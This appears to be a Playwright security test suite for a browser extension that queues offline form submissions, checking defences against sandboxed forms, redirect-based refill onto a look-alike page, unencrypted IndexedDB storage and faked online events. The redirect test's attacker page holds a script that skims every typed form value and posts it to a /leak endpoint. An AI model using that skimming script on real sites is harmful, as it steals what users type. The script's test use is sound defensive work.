/**
 * Security, pages and storage (issue 15, attacks 4 to 7), in Chromium and Firefox. Each test plays
 * an attacker's site (http://127.0.0.1:<port>) against a victim's site (http://localhost:<port>, with
 * one cookie of each SameSite kind), asserts what the servers received and what the user sees, and
 * holds a control in the same test: the extension's own work still reaches the victim as it should.
 *
 * The attack's assertions are soft (expect.soft): a build that is still open to the attack reports
 * every way it is, and the control still runs and must pass.
 *
 *   4. Opaque origins: a form in a sandboxed document (CSP sandbox; a sandboxed iframe) is not saved.
 *   5. Refill: "Open page" fills only a document of the item's page origin (no fill after a redirect).
 *   6. Encryption: with a passphrase, nothing typed is readable anywhere in the extension's IndexedDB.
 *   7. Fake connectivity: a page's synthetic `online` event starts no replay before Retry-After.
 */
import type { Page } from '@playwright/test';
import { test as base, expect, notice, submitAndExpectNotice, type ExtensionPages } from './support/browsers';
import type { ScriptedResponse } from './support/form-server';
import {
  cookieNames,
  dumpDatabase,
  findInDump,
  htmlPage,
  startSite,
  VICTIM_COOKIES,
  type Site,
} from './support/security-page-sites';

/** victim: http://localhost:<port>; attacker: http://127.0.0.1:<port> (two sites). */
const test = base.extend<{ victim: Site; attacker: Site }>({
  // eslint-disable-next-line no-empty-pattern
  victim: async ({}, use) => {
    const site = await startSite('localhost');
    try {
      await use(site);
    } finally {
      await site.close();
    }
  },
  // eslint-disable-next-line no-empty-pattern
  attacker: async ({}, use) => {
    const site = await startSite('127.0.0.1');
    try {
      await use(site);
    } finally {
      await site.close();
    }
  },
});

const ALL_COOKIES = Object.keys(VICTIM_COOKIES).sort();
const nonce = () => Math.random().toString(36).slice(2, 10);

/** Sends a popup/settings command to the background from `extensionPage` (an open extension page). */
function commandIn(extensionPage: Page, type: string, data: unknown): Promise<any> {
  return extensionPage.evaluate(
    ([t, d]) => ((globalThis as any).browser ?? (globalThis as any).chrome).runtime.sendMessage({ type: t, data: d }),
    [type, data] as const,
  );
}

/** Sends a command from a fresh extension page (the popup document), closed afterwards. */
function command(ext: ExtensionPages, type: string, data: unknown): Promise<any> {
  return ext.evaluate(
    ([t, d]) => ((globalThis as any).browser ?? (globalThis as any).chrome).runtime.sendMessage({ type: t, data: d }),
    [type, data] as const,
  );
}

/** A urlencoded POST form with one text field `note`. */
const noteForm = (title: string, action: string) =>
  htmlPage(
    title,
    `
<form method="post" action="${action}">
  <label>Note <input name="note"></label>
  <button>Send</button>
</form>`,
  );

/** Routes every /submit/* path in `paths` to a 303 to /thanks, and /thanks to a page. */
function acceptSubmissions(site: Site, ...paths: string[]) {
  for (const path of paths) site.route(path, () => ({ status: 303, headers: { location: '/thanks' } }));
  site.page('/thanks', htmlPage('Thanks', '<p>Received.</p>'));
}

/** Waits until the notice of `locator` has settled (any tone but 'working') and returns its tone. */
async function settledTone(locator: ReturnType<typeof notice>): Promise<string | null> {
  await expect(locator).toHaveAttribute('data-tone', /^(saved|sent|problem)$/);
  return locator.getAttribute('data-tone');
}

test('attack 4, opaque origins: a form in a sandboxed document (CSP sandbox; sandboxed iframe) is not saved and the site gets nothing; control: the same form on a normal page is replayed with Origin and cookies', async ({
  context,
  page,
  network,
  ext,
  victim,
  attacker,
  extBrowser,
}) => {
  const SANDBOX = 'allow-forms allow-scripts';
  const frameOf = (path: string) =>
    `<iframe sandbox="${SANDBOX}" src="${victim.origin}${path}" style="width:700px;height:300px"></iframe>`;
  // The victim's user content, served with a CSP sandbox (opaque origin, top-level document).
  victim.page('/sandboxed', noteForm('User content (CSP sandbox)', '/submit/sandboxed'), {
    'content-security-policy': `sandbox ${SANDBOX}`,
  });
  // The victim's form page framed in a sandboxed iframe: by the victim's own page, and by the attacker's.
  victim.page('/framed-own', noteForm('Framed form', '/submit/framed-own'));
  victim.page('/frames', htmlPage('Embeds a sandboxed frame', frameOf('/framed-own')));
  victim.page('/framed-cross', noteForm('Framed form', '/submit/framed-cross'));
  attacker.page('/embed', htmlPage('Embeds a sandboxed frame of another site', frameOf('/framed-cross')));
  victim.page('/normal', noteForm('Normal form', '/submit/normal'));
  acceptSubmissions(victim, '/submit/sandboxed', '/submit/framed-own', '/submit/framed-cross', '/submit/normal');

  const cases: Array<{ what: string; url: string; target: string; framed: boolean }> = [
    { what: 'CSP-sandboxed document', url: `${victim.origin}/sandboxed`, target: '/submit/sandboxed', framed: false },
    {
      what: "sandboxed iframe in the site's own page",
      url: `${victim.origin}/frames`,
      target: '/submit/framed-own',
      framed: true,
    },
  ];
  // Firefox under Playwright (WebDriver BiDi) delivers no click or key press into an out-of-process
  // (cross-site) iframe, so a person's submission there cannot be played: that framing runs in Chromium.
  if (extBrowser === 'chromium')
    cases.push({
      what: "sandboxed iframe in the attacker's page",
      url: `${attacker.origin}/embed`,
      target: '/submit/framed-cross',
      framed: true,
    });

  await page.goto(`${victim.origin}/set-cookies`);

  // Every page loaded online in its own tab and filled, then submitted offline.
  const tabs = [];
  for (const c of cases) {
    const tab = c === cases[0] ? page : await context.newPage();
    await tab.goto(c.url);
    const frame = c.framed ? tab.frames()[1] : tab.mainFrame();
    expect(await frame.evaluate(() => self.origin), `${c.what}: the document's origin is opaque`).toBe('null');
    await frame.fill('input[name=note]', `secret from ${c.target}`);
    tabs.push({ ...c, tab, frame });
  }
  const normal = await context.newPage();
  await normal.goto(`${victim.origin}/normal`);
  await normal.fill('input[name=note]', 'normal note');

  await network.offline();
  for (const { what, frame } of tabs) {
    await frame.click('button');
    const shown = frame.locator('form-outbox-notice').last();
    const tone = await settledTone(shown);
    expect.soft(tone, `${what}: the notice refuses the form`).toBe('problem');
    if (tone === 'problem')
      await expect.soft(shown, `${what}: the notice says the page is sandboxed`).toContainText(/sandbox/i);
  }

  // Control: the normal page's form is saved.
  await normal.click('button');
  await expect(notice(normal)).toHaveAttribute('data-tone', 'saved');
  const queued = await ext.readQueue();
  expect(queued.map((r) => r.url)).toContain(`${victim.origin}/submit/normal`);
  expect
    .soft(
      queued.map((r) => r.url),
      "only the normal page's form is in the queue",
    )
    .toEqual([`${victim.origin}/submit/normal`]);

  await network.online();
  // Control: the replay reaches the victim with its Origin, the page as Referer and all its cookies.
  const [replayed] = await victim.waitFor('/submit/normal', 1, 'POST');
  expect(replayed.body.toString()).toBe('note=normal+note');
  expect(replayed.headers.origin).toBe(victim.origin);
  expect(replayed.headers.referer).toBe(`${victim.origin}/normal`);
  expect(cookieNames(replayed)).toEqual(ALL_COOKIES);
  await expect(notice(normal)).toHaveAttribute('data-tone', 'sent');

  // Items of one site go in capture order: had the sandboxed forms been saved, they went first.
  await page.waitForTimeout(2_000);
  const fromSandbox = tabs.flatMap((c) => victim.received(c.target));
  expect
    .soft(
      fromSandbox.map((r) => ({ url: r.url, origin: r.headers.origin, cookies: cookieNames(r) })),
      'the victim receives nothing from the sandboxed documents',
    )
    .toEqual([]);
});

test('attack 5, refill: "Open page" does not fill a look-alike form on another site that the item\'s page redirects to; control: without the redirect it fills the item\'s page', async ({
  context,
  page,
  network,
  ext,
  victim,
  attacker,
  extensionOrigin,
}) => {
  const email = `ana-${nonce()}@example.com`;
  const secret = `private-note-${nonce()}`;
  const form = htmlPage(
    'Site report',
    `
<form method="post" action="/submit/report">
  <label>Email <input name="email" type="email"></label>
  <label>Notes <textarea name="notes"></textarea></label>
  <button>Send report</button>
</form>`,
  );
  victim.page('/report', form);
  victim.route('/submit/report', () => ({ status: 422, body: 'rejected' }));
  // The attacker's look-alike: same field names; its script reports whatever the fields hold.
  attacker.page(
    '/lookalike',
    htmlPage(
      'Site report',
      `
<form method="post" action="/collect">
  <label>Email <input name="email" type="email"></label>
  <label>Notes <textarea name="notes"></textarea></label>
  <button>Send report</button>
</form>
<script>
  let last = '';
  const report = () => {
    const values = JSON.stringify(Array.from(document.forms[0].elements).filter((e) => e.name && e.value).map((e) => [e.name, e.value]));
    if (values !== '[]' && values !== last) fetch('/leak', { method: 'POST', body: (last = values) });
  };
  document.addEventListener('input', report, true);
  document.addEventListener('change', report, true);
  setInterval(report, 100);
</script>`,
    ),
  );
  attacker.route('/leak', () => ({ status: 204 }));

  await page.goto(`${victim.origin}/report`);
  await page.fill('input[name=email]', email);
  await page.fill('textarea[name=notes]', secret);
  await network.offline();
  await page.click('button');
  await expect(notice(page)).toHaveAttribute('data-tone', 'saved');
  await network.online();
  const [item] = await ext.waitForQueue((rows) => rows.length === 1 && rows[0].status === 'failed');

  /** Sends openAndRefill from an open extension page and returns the tab it opens. */
  const openAndRefill = async (): Promise<Page> => {
    const popup = await ext.open('popup.html');
    try {
      const opened = context.waitForEvent('page', { predicate: (p) => !p.url().startsWith(extensionOrigin) });
      expect(await commandIn(popup, 'openAndRefill', { id: item.id })).toMatchObject({ ok: true });
      const tab = await opened;
      await tab.waitForLoadState();
      return tab;
    } finally {
      await ext.close(popup);
    }
  };

  // Control: the item's own page is filled in.
  const own = await openAndRefill();
  await expect.poll(() => own.evaluate(() => location.href)).toBe(`${victim.origin}/report`);
  await expect(own.locator('input[name=email]')).toHaveValue(email);
  await expect(own.locator('textarea[name=notes]')).toHaveValue(secret);
  await own.close();

  // Attack: the item's page now redirects to the attacker's look-alike.
  victim.route('/report', () => ({ status: 302, headers: { location: `${attacker.origin}/lookalike` } }));
  const elsewhere = await openAndRefill();
  // The browser followed the redirect: the attacker's server served its look-alike.
  await attacker.waitFor('/lookalike', 1, 'GET');
  // The control filled its page within moments; give the look-alike three seconds.
  await elsewhere.waitForTimeout(3_000);
  expect
    .soft(
      attacker.received('/leak').map((r) => r.body.toString()),
      "the attacker's page reports no value",
    )
    .toEqual([]);
  expect
    .soft(
      [secret, email, encodeURIComponent(email)].filter((typed) => attacker.sawAnywhere(typed)),
      "the attacker's server never sees what the user typed",
    )
    .toEqual([]);
  // What the tab shows now (its document's own URL: page.url() can lag in Firefox) and the values of its fields.
  const shown = await elsewhere.evaluate(() => ({
    href: location.href,
    values: Array.from(document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea'))
      .map((e) => e.value)
      .filter(Boolean),
  }));
  if (shown.href === `${attacker.origin}/lookalike`)
    expect.soft(shown.values, 'the look-alike form stays empty').toEqual([]);
  // A tab the extension sent to one of its own pages must leave it before closing (Firefox ends the session otherwise).
  if (!shown.href.startsWith('http')) await elsewhere.goto('about:blank', { waitUntil: 'commit' });
  await elsewhere.close();
});

test("attack 6, encryption: with a passphrase, no typed value (nor a field's label) is readable in any store of the extension's IndexedDB (GET query in error detail and result URL, a failed item's error, the trash); control: readable with encryption off", async ({
  page,
  network,
  ext,
  victim,
}) => {
  const id = nonce();
  const secrets = {
    getBefore: `qbefore${id}`,
    postBefore: `notebefore${id}`,
    trashBefore: `draftbefore${id}`,
    getAfter: `qafter${id}`,
    postAfter: `noteafter${id}`,
    lookupAfter: `lookafter${id}`,
    // What the page called a field is kept with the item (the popup shows it) and may name a person or a case.
    label: `casefile${id}`,
  };
  victim.page(
    '/forms',
    htmlPage(
      'Forms',
      `
<form method="get" action="/search"><label>Search <input name="q"></label><button id="search">Search</button></form>
<form method="get" action="/lookup"><label>Look up <input name="part"></label><button id="lookup">Look up</button></form>
<form method="post" action="/submit/note"><label>Note on ${secrets.label} <input name="note"></label><button id="note">Save note</button></form>
<form method="post" action="/submit/draft"><label>Draft <input name="draft"></label><button id="draft">Save draft</button></form>`,
    ),
  );
  victim.route('/search', () => ({ status: 400, body: 'bad query' }));
  victim.route('/lookup', () => ({ status: 200, body: '<!doctype html><title>Found</title><p>found</p>' }));
  // The server echoes the note into the address it redirects to, then rejects it there.
  victim.route('/submit/note', (request) => ({
    status: 303,
    headers: { location: `/rejected?${request.body.toString()}` },
  }));
  victim.route('/rejected', () => ({ status: 422, body: 'rejected' }));
  victim.route('/submit/draft', () => ({ status: 422, body: 'rejected' }));

  /** Fills the forms (online), submits each offline, comes back online and waits for the queue. */
  const submitOffline = async (
    fields: Array<[button: string, input: string, value: string]>,
    settled: (rows: Awaited<ReturnType<ExtensionPages['readQueue']>>) => boolean,
  ) => {
    await page.goto(`${victim.origin}/forms`);
    for (const [, input, value] of fields) await page.fill(`input[name=${input}]`, value);
    await network.offline();
    for (const [button] of fields) {
      await submitAndExpectNotice(page, () => page.click(`#${button}`));
    }
    await network.online();
    return ext.waitForQueue(settled);
  };
  const where = async () => {
    const dump = await ext.evaluate(dumpDatabase, 'form-outbox');
    expect(Object.keys(dump)).toEqual(expect.arrayContaining(['items', 'meta']));
    return (secret: string) => findInDump(dump, secret);
  };

  // Encryption off: a GET answered 400, a POST rejected after a redirect that echoes it, a draft discarded.
  const before = await submitOffline(
    [
      ['search', 'q', secrets.getBefore],
      ['note', 'note', secrets.postBefore],
      ['draft', 'draft', secrets.trashBefore],
    ],
    (rows) => rows.length === 3 && rows.every((r) => r.status === 'failed'),
  );
  expect(victim.received(`/search?q=${secrets.getBefore}`, 'GET')).toHaveLength(1);
  const draft = before.find((r) => r.url === `${victim.origin}/submit/draft`)!;
  expect(await command(ext, 'discardItem', { id: draft.id })).toMatchObject({ ok: true });
  await ext.waitForQueue((rows) => rows.length === 2);

  // Control: with encryption off, every one of them is readable (the dump finds them).
  const plain = await where();
  for (const secret of [secrets.getBefore, secrets.postBefore, secrets.trashBefore, secrets.label]) {
    expect(plain(secret), `${secret} is stored readable while encryption is off`).not.toEqual([]);
  }
  expect(plain(secrets.trashBefore).some((at) => at.startsWith('meta['))).toBe(true); // the trash: in meta

  // Encryption on; then a GET answered 400, a GET answered 200, a POST rejected after the echoing redirect.
  expect(await command(ext, 'setPassphrase', { passphrase: 'field kit 2026 passphrase' })).toMatchObject({ ok: true });
  await submitOffline(
    [
      ['search', 'q', secrets.getAfter],
      ['lookup', 'part', secrets.lookupAfter],
      ['note', 'note', secrets.postAfter],
    ],
    (rows) =>
      rows.length === 5 &&
      rows.filter((r) => r.status === 'failed').length === 4 &&
      rows.filter((r) => r.status === 'sent').length === 1,
  );
  // Control: the sealed items were replayed as typed.
  expect(victim.received(`/search?q=${secrets.getAfter}`, 'GET')).toHaveLength(1);
  expect(victim.received(`/lookup?part=${secrets.lookupAfter}`, 'GET')).toHaveLength(1);
  expect(victim.received('/submit/note', 'POST').map((r) => r.body.toString())).toContain(`note=${secrets.postAfter}`);

  // Sealing of what was stored before runs after each replay pass: let it finish.
  await page.waitForTimeout(1_500);
  const sealed = await where();
  const leaks = Object.fromEntries(
    Object.entries(secrets)
      .map(([name, secret]) => [name, sealed(secret)])
      .filter(([, at]) => at.length),
  );
  expect
    .soft(
      leaks,
      'with a passphrase set, no typed value is readable in the database (secret -> where it is stored readable)',
    )
    .toEqual({});
});

test('attack 7, fake connectivity: a page\'s synthetic "online" events do not resend an item the server asked to retry in an hour; control: the user\'s "Send now" does, with Origin and cookies', async ({
  context,
  page,
  network,
  ext,
  victim,
  attacker,
}) => {
  let accept = false;
  victim.page('/form', noteForm('Order', '/submit/later'));
  victim.route('/submit/later', (): ScriptedResponse =>
    accept
      ? { status: 303, headers: { location: '/thanks' } }
      : { status: 503, headers: { 'retry-after': '3600' }, body: 'down for maintenance' },
  );
  acceptSubmissions(victim);
  attacker.page('/news', htmlPage('Attacker news', '<p>Nothing to see.</p>'));

  await page.goto(`${victim.origin}/set-cookies`);
  await page.goto(`${victim.origin}/form`);
  await page.fill('input[name=note]', 'retry later');
  await network.offline();
  await page.click('button');
  await expect(notice(page)).toHaveAttribute('data-tone', 'saved');
  await network.online();
  const [first] = await victim.waitFor('/submit/later', 1, 'POST');
  expect(first.status).toBe(503);
  await ext.waitForQueue((rows) => rows.length === 1 && rows[0].status === 'pending' && rows[0].attempts === 1);
  // The real "online" of going back online has been handled: nothing more is on its way.
  await page.waitForTimeout(1_500);
  expect(victim.received('/submit/later', 'POST')).toHaveLength(1);

  // The attacker's page fakes five "online" events over 7.5 s.
  const fake = await context.newPage();
  await fake.goto(`${attacker.origin}/news`);
  for (let i = 0; i < 5; i++) {
    await fake.evaluate(() => window.dispatchEvent(new Event('online')));
    await fake.waitForTimeout(1_500);
  }
  const afterFakes = victim.received('/submit/later', 'POST').length;
  expect.soft(afterFakes - 1, 'requests caused by synthetic online events before Retry-After').toBe(0);
  await fake.close();

  // Control: the user's "Send now" sends it again, as the page's form would have been sent.
  accept = true;
  expect(await command(ext, 'replayNow', {})).toMatchObject({ ok: true });
  const received = await victim.waitFor('/submit/later', afterFakes + 1, 'POST');
  const resent = received[afterFakes];
  expect(resent.status).toBe(303);
  expect(resent.body.toString()).toBe('note=retry+later');
  expect(resent.headers.origin).toBe(victim.origin);
  expect(resent.headers.referer).toBe(`${victim.origin}/form`);
  expect(cookieNames(resent)).toEqual(ALL_COOKIES);
  expect(resent.headers['idempotency-key']).toBe(first.headers['idempotency-key']);
  await ext.waitForQueue((rows) => rows.length === 1 && rows[0].status === 'sent');
});
